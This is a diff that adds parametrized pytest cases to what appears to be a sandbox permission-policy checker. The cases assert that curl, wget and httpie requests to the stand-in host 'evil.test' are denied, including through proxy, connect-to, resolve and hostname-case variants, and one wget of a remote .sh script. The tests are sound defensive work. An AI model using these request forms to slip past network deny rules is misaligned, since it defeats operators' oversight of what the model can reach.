@@ -133,3 +133,30 @@ def secrets(tmp_path_factory):
 def test_a_path_that_is_not_static_is_read_as_what_it_names(rules, tool, text, expect,
                                                              secrets):
     assert_meets(rules, tool, text, expect, secrets)
+
+
+# A host a network client sends a request to is a `network HOST` request for the deny
+# rules (the sandbox's proxy judges the connection itself): every URL operand, proxies,
+# connect-to and resolve targets.
+NET = [A("*"), R("network", "evil.test", "deny"), R("network", "*.evil.test", "deny")]
+HOSTS = [
+    (NET, "bash", "curl https://evil.test/x", "deny"),
+    (NET, "bash", "curl -s https://ok.test/a https://evil.test/b", "deny"),
+    (NET, "bash", "curl evil.test/x", "deny"),
+    (NET, "bash", "curl --url https://evil.test/ -o out", "deny"),
+    (NET, "bash", "curl -x evil.test:3128 https://ok.test/", "deny"),
+    (NET, "bash", "curl --preproxy socks5://evil.test https://ok.test/", "deny"),
+    (NET, "bash", "curl --connect-to ok.test:443:evil.test:443 https://ok.test/", "deny"),
+    (NET, "bash", "curl --resolve ok.test:443:evil.test https://ok.test/", "deny"),
+    (NET, "bash", "curl https://EVIL.TEST./", "deny"),
+    (NET, "bash", "wget -q https://cdn.evil.test/x.sh", "deny"),
+    (NET, "bash", "http POST evil.test/api a=1", "deny"),
+    (NET, "bash", "curl https://ok.test/", "allow"),
+    (NET, "bash", "http :3000/health", "allow"),
+]
+
+
+@pytest.mark.parametrize("rules,tool,text,expect", HOSTS, ids=[c[2] for c in HOSTS])
+def test_a_host_a_client_reaches_is_a_network_request(rules, tool, text, expect, where):
+    assert_meets(rules, tool, text, expect, where)
+CASES = [*CASES, *HOSTS]  # the tables dm_cc run and policy check judge too (tests/cli)
